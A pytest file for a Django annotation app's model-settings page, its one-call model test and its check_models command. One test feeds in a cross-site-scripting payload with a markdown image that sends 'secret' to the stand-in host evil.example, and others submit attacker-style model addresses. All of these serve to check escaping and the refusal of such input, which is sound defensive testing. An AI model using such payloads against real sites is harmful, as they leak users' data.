import json
from collections.abc import Iterator
from io import StringIO
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client

import builders
from annotation.domain.choices import Modality, Role
from annotation.models import Event, Item, Membership
from annotation.priors import model_choice, model_traits
from moderation.debates import start
from providers.bindings import NotConfigured
from providers.learnt_facts import LearntFact, LearntFacts
from providers.profiles import Fact, Lesson
from providers.roles import ModelRole
from runs.models import Run
from runs.queue import model_facts, provider_pauses
from wire import families
from wire.server import WireServer, say

pytestmark = pytest.mark.django_db


@pytest.fixture
def wire(settings: Any) -> Iterator[WireServer]:
    """A server behind both kinds of prior, and a list of what projects may choose."""
    with WireServer() as server:
        settings.OPENAI_BASE_URL = server.openai_url
        settings.OPENAI_API_KEY = "sk-CANARY-1"
        settings.MODEL_BINDINGS = {"MODEL_TEXT": "openai:wire-sensible", "MODEL_VISION": "openai:wire-sensible"}
        settings.MODEL_ALLOWED = ["openai:small-*", "openai:other"]
        yield server


@pytest.fixture
def admin() -> Membership:
    return builders.make_member(builders.make_project("winter"), Role.ADMIN)


@pytest.fixture
def browser(admin: Membership, client: Client) -> Client:
    assert admin.user
    client.force_login(admin.user)
    return client


def check(*args: str) -> Any:
    out = StringIO()
    try:
        call_command("check_models", "--json", *args, stdout=out, stderr=StringIO())
        code = 0
    except SystemExit as end:
        code = int(end.code or 0)
    return code, json.loads(out.getvalue())


def test_without_a_key_the_page_says_that_no_language_model_is_used(browser: Client):
    page = browser.get("/p/winter/models/").content.decode()
    assert "keyword:cues-1" in page
    assert "no language model" in page
    assert "pictures get no prior" in page
    assert page.count("Test with one call") == 1  # the baseline sees no pictures: nothing to test


def test_with_an_openai_key_alone_the_page_names_the_missing_settings(browser: Client, settings: Any):
    settings.OPENAI_API_KEY = "sk-CANARY-1"
    page = browser.get("/p/winter/models/").content.decode()
    assert "set MODEL_TEXT to openai:NAME" in page
    assert "set MODEL_VISION to openai:NAME" in page
    assert "CANARY" not in page


@pytest.mark.parametrize("modality", list(Modality))
def test_one_call_tests_a_model_with_a_real_question(browser: Client, wire: WireServer, modality: Modality):
    page = browser.post("/p/winter/models/try/", {"role": f"prior_{modality}"})
    assert page.status_code == 200
    assert "It answers, in the right form" in page.content.decode()
    [heard] = wire.heard
    assert "1: Racist" in heard.said("system")
    assert len(heard.pictures) == (modality == Modality.IMAGE)


@pytest.mark.parametrize(
    ("behaviour", "sentence"),
    [
        ("prose", "but not in the form of a prior"),
        ("401", "It does not answer"),
        ("503", "It does not answer"),
        ("blocked", "It does not answer"),
        ("blank", "It does not answer"),
        ("label", "but not in the form of a prior"),
    ],
)
def test_a_test_that_fails_says_how_after_one_call(browser: Client, wire: WireServer, behaviour: str, sentence: str):
    wire.queue(behaviour)
    page = browser.post("/p/winter/models/try/", {"role": "prior_text"}).content.decode()
    assert sentence in page
    assert "CANARY" not in page
    assert len(wire.heard) == 1


def test_what_a_model_says_is_shown_as_text(browser: Client, wire: WireServer):
    wire.queue(say("<script>alert(1)</script> ![](http://evil.example/?d=secret)"))
    page = browser.post("/p/winter/models/try/", {"role": "prior_text"}).content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert "<img" not in page.partition('id="tested"')[2].partition("</section>")[0]


def test_a_paused_provider_is_shown_with_its_reason(browser: Client, wire: WireServer):
    provider_pauses.pause_provider("openai", "openai answered 429 insufficient_quota.", 300)
    page = browser.get("/p/winter/models/").content.decode()
    assert "openai is not answering" in page
    assert "insufficient_quota" in page


def test_of_a_provider_s_models_only_the_paused_one_is_shown_as_paused(browser: Client, wire: WireServer):
    name = model_choice.model_setups()[0].binding.name
    provider_pauses.pause_provider("openai", "openai answered 403.", 300, model="openai:another")
    assert not any(setup.pause for setup in model_choice.model_setups())
    provider_pauses.pause_provider("openai", "openai answered 403.", 300, model=name)
    assert {setup.binding.name for setup in model_choice.model_setups() if setup.pause} == {name}
    assert f"{name} is not answering" in browser.get("/p/winter/models/").content.decode()


def test_an_unknown_role_is_refused(browser: Client):
    assert browser.post("/p/winter/models/try/", {"role": "smell"}).status_code == 422


def test_an_admin_chooses_among_the_models_of_the_site(browser: Client, wire: WireServer, admin: Membership):
    answer = browser.post("/p/winter/models/choose/", {"prior_text": "openai:small-7b", "prior_image": ""})
    assert answer.status_code == 302
    admin.project.refresh_from_db()
    assert admin.project.model_plan == {"prior_text": "openai:small-7b"}
    event = Event.objects.get(verb="choose_models")
    assert (event.actor_id, event.facts) == (admin.pk, {"models": {"prior_text": "openai:small-7b"}})
    page = browser.get("/p/winter/models/").content.decode()
    assert 'value="openai:small-7b"' in page
    browser.post("/p/winter/models/choose/", {"prior_text": "", "prior_image": ""})
    admin.project.refresh_from_db()
    assert admin.project.model_plan == {}


@pytest.mark.parametrize("name", ["openai:large", "dashscope:qwen-plus", "http://evil.example/v1", "small-7b"])
def test_a_model_outside_the_list_is_refused_and_nothing_stored(
    browser: Client, wire: WireServer, admin: Membership, name: str
):
    answer = browser.post("/p/winter/models/choose/", {"prior_text": "openai:other", "judge": name})
    assert answer.status_code == 422
    assert "MODEL_ALLOWED" in answer.content.decode()
    admin.project.refresh_from_db()
    assert admin.project.model_plan == {}


def test_b101_no_admin_of_a_project_leads_the_sites_key_elsewhere(
    browser: Client, wire: WireServer, admin: Membership, settings: Any
):
    """Addresses come from settings alone: what names one is no model of the list, and no field takes one."""
    settings.MODEL_ALLOWED = ["openai:*"]
    with WireServer() as elsewhere:
        address = elsewhere.openai_url
        for name in (address, f"{address}:some-model", f"openai@{address}"):
            assert browser.post("/p/winter/models/choose/", {"judge": name}).status_code == 422
        fields = {"base_url": address, "OPENAI_BASE_URL": address, "api_key": "x"}
        browser.post("/p/winter/models/choose/", {"judge": f"openai:{address}", **fields})  # a name like any other
        browser.post("/p/winter/models/try/", {"role": "judge", **fields})
        with pytest.raises(start.BadChoice, match="MODEL_ALLOWED"):
            wish = start.DebateRequest("arcade", models={ModelRole.JUDGE: f"{address}:m"})
            start.start_runs(admin.project, Item.objects.all(), wish)
        assert [heard.model for heard in wire.heard] == [address]
        assert elsewhere.heard == []
    assert wire.openai_url == settings.OPENAI_BASE_URL


def test_a_model_that_cannot_be_asked_is_refused_with_the_missing_setting(
    admin: Membership, wire: WireServer, settings: Any
):
    settings.MODEL_ALLOWED = ["dashscope:*"]
    with pytest.raises(NotConfigured, match="DASHSCOPE_API_KEY is not set"):
        model_choice.choose_models(admin, {ModelRole.PRIOR_TEXT: "dashscope:qwen-plus"})


@pytest.mark.parametrize("role", [Role.ANNOTATOR, Role.REVIEWER])
@pytest.mark.parametrize(("method", "path"), [("get", "models/"), ("post", "models/try/"), ("post", "models/choose/")])
def test_only_admins_of_the_project_see_the_page(client: Client, role: Role, method: str, path: str):
    member = builders.make_member(builders.make_project("winter"), role)
    builders.make_member(builders.make_project("summer"), Role.ADMIN, user=member.user)
    assert member.user
    client.force_login(member.user)
    assert getattr(client, method)(f"/p/winter/{path}").status_code == 404


def test_the_command_tests_every_model_that_sees_its_kind(wire: WireServer):
    code, value = check()
    assert (code, value["ok"]) == (0, True)
    assert [model["role"] for model in value["models"]] == ["prior_text", "prior_image"]
    assert all(model["tested"] and model["ok"] and model["language_model"] for model in value["models"])
    assert len(wire.heard) == 2


def test_the_command_fails_where_a_model_does_not_work(wire: WireServer):
    wire.queue("401")
    code, value = check()
    assert (code, value["ok"]) == (1, False)
    text, image = value["models"]
    assert (text["ok"], image["ok"]) == (False, True)
    assert text["fault"].startswith("openai answered 401 invalid_api_key")


def test_the_command_asks_nobody_when_told_so(wire: WireServer):
    code, value = check("--no-call")
    assert (code, [model["tested"] for model in value["models"]], wire.heard) == (0, [False, False], [])


def test_the_command_shows_a_projects_own_models(wire: WireServer, admin: Membership):
    model_choice.choose_models(admin, {ModelRole.PRIOR_IMAGE: "openai:other"})
    _, value = check("--project", "winter")
    assert [model["model"] for model in value["models"]] == ["openai:wire-sensible", "openai:other"]
    assert [heard.model for heard in wire.heard] == ["wire-sensible", "other"]


def test_without_a_key_the_command_is_content(db: None):
    code, value = check()
    assert (code, [model["model"] for model in value["models"]]) == (0, ["keyword:cues-1"] * 2)


def test_every_role_has_a_model_and_a_project_chooses_for_each(browser: Client, wire: WireServer, admin: Membership):
    page = browser.get("/p/winter/models/").content.decode()
    assert all(f'name="{role}"' in page for role in ModelRole)
    chosen = {"judge": "openai:small-1", "counterspeaker": "openai:other"}
    assert browser.post("/p/winter/models/choose/", chosen).status_code == 302
    admin.project.refresh_from_db()
    assert admin.project.model_plan == chosen
    builders.make_item(admin.project, "Weeds.")
    start.start_runs(admin.project, Item.objects.all(), start.DebateRequest("arcade"), ring=False)
    assert Run.objects.get().model_plan["judge"] == "openai:small-1"
    # A single run may choose otherwise, within the list.
    start.start_runs(
        admin.project, Item.objects.all(), start.DebateRequest("arcade", judges=["openai:small-2"]), ring=False
    )
    assert Run.objects.latest("id").model_plan["judge"] == "openai:small-2"


def test_nobody_reads_a_second_time_until_an_admin_names_a_model(browser: Client, wire: WireServer, admin: Membership):
    page = browser.get("/p/winter/models/").content.decode()
    assert "MODEL_READER is not set: nobody is asked" in page and 'value="reader"' not in page
    assert browser.post("/p/winter/models/forget/", {"model": ""}).status_code == 422
    refused = browser.post("/p/winter/models/choose/", {"reader": "keyword:cues-1"})
    assert refused.status_code == 422 and "answers no optional role" in refused.content.decode()
    assert browser.post("/p/winter/models/choose/", {"reader": "openai:small-1"}).status_code == 302
    admin.project.refresh_from_db()
    assert admin.project.model_plan == {"reader": "openai:small-1"}
    assert 'value="reader"' in browser.get("/p/winter/models/").content.decode()


def test_one_call_tests_the_model_of_any_role(browser: Client, wire: WireServer):
    wire.queue(say("ready"), "401")
    page = browser.post("/p/winter/models/try/", {"role": "critic"}).content.decode()
    assert "It answers after" in page
    assert "It does not answer" in browser.post("/p/winter/models/try/", {"role": "critic"}).content.decode()
    assert len(wire.heard) == 2


def test_the_command_shows_all_roles_when_told_so(wire: WireServer):
    code, value = check("--all", "--no-call")
    assert (code, [model["role"] for model in value["models"]]) == (0, list(ModelRole))
    assert [model["role"] for model in value["models"] if not model["model"]] == ["reader"]


# ── What models take ──────────────────────────────────────────────────────────


def section(page: str) -> str:
    return " ".join(page.partition('id="traits"')[2].split())


def test_the_page_says_how_a_model_is_asked(browser: Client, wire: WireServer, settings: Any):
    settings.MODEL_BINDINGS = {"MODEL_TEXT": "openai:gpt-5", "MODEL_VISION": "openai:house-model"}
    settings.MODEL_PROFILES = (("openai:gpt-5", {"effort": "low", "most_tokens": 32_000}),)
    told = section(browser.get("/p/winter/models/").content.decode())
    first, second = told.split("house-model")
    for text in ("by its schema", "Not sent: temperature", "room for 6,000 tokens", "effort: low", "32,000 tokens at"):
        assert text in first
    assert "2,048 pixels" in second and "Learnt" not in told


def test_what_a_test_call_taught_is_told_with_the_server_s_sentence_and_can_be_forgotten(
    browser: Client, wire: WireServer
):
    sentence = "Unsupported value: <b>temperature</b> is not supported"
    wire.queue(lambda exchange: exchange.send(400, exchange.fault("unsupported_value", sentence, "temperature")))
    browser.post("/p/winter/models/try/", {"role": "prior_text"})
    assert len(wire.heard) == 2
    told = section(browser.get("/p/winter/models/").content.decode())
    assert "It rejects the parameter temperature" in told and "Not sent: temperature" in told
    assert "&lt;b&gt;temperature&lt;/b&gt; is not supported" in told
    code, said = check("--no-call")
    assert said["models"][0]["learnt"] == ["It rejects the parameter temperature"]
    forgotten = browser.post("/p/winter/models/forget/", {"model": "openai:wire-sensible"}, follow=True)
    assert "What was learnt of openai:wire-sensible is forgotten" in forgotten.content.decode()
    assert "It rejects" not in forgotten.content.decode()
    browser.post("/p/winter/models/try/", {"role": "prior_text"})
    assert "temperature" in wire.heard[-1].body


def test_only_models_of_the_project_are_forgotten(browser: Client, wire: WireServer):
    model_facts.store_new_facts(learnt("openai:elsewhere"))
    assert browser.post("/p/winter/models/forget/", {"model": "openai:elsewhere"}).status_code == 422
    assert len(model_facts.stored_facts()) == 1


def test_what_a_slower_process_learnt_is_not_stored_over_more(db: None):
    for form in ("off", "object"):
        facts = LearntFacts()
        facts.learn(LearntFact("openai:small-1", Lesson(Fact.JSON, form)))
        model_facts.store_new_facts(facts)
    assert [fact.lesson.value for fact in model_facts.stored_facts()] == ["off"]


def learnt(name: str) -> LearntFacts:
    facts = LearntFacts()
    facts.learn(LearntFact(name, Lesson(Fact.REJECTS, "seed")))
    return facts


def test_a_model_that_thinks_has_room_in_the_test_call(browser: Client, wire: WireServer, settings: Any):
    settings.MODEL_BINDINGS = {"MODEL_TEXT": "openai:gpt-5"}
    wire.always(families.thinking(3000))
    for role in ("prior_text", "critic"):
        assert "It answers" in browser.post("/p/winter/models/try/", {"role": role}).content.decode()


def test_an_address_that_lacks_its_end_is_told_until_the_settings_have_it(
    browser: Client, wire: WireServer, settings: Any
):
    sentence = "It answers below /v1: add that to the address of its server in the settings"
    facts = LearntFacts()
    facts.learn(LearntFact("openai:wire-sensible", Lesson(Fact.ROOT, "/v1")))
    model_facts.store_new_facts(facts)
    for address, is_told in (("https://models.example.org", True), ("https://models.example.org/v1/", False)):
        settings.OPENAI_BASE_URL = address
        assert (sentence in section(browser.get("/p/winter/models/").content.decode())) is is_told
        assert (sentence in model_traits.learnt_texts("openai:wire-sensible")) is is_told


@pytest.mark.parametrize("lesson", [Lesson(fact, "7") for fact in Fact])
def test_every_kind_of_fact_has_its_sentence(lesson: Lesson):
    assert model_traits.lesson_text(lesson).startswith("It ")
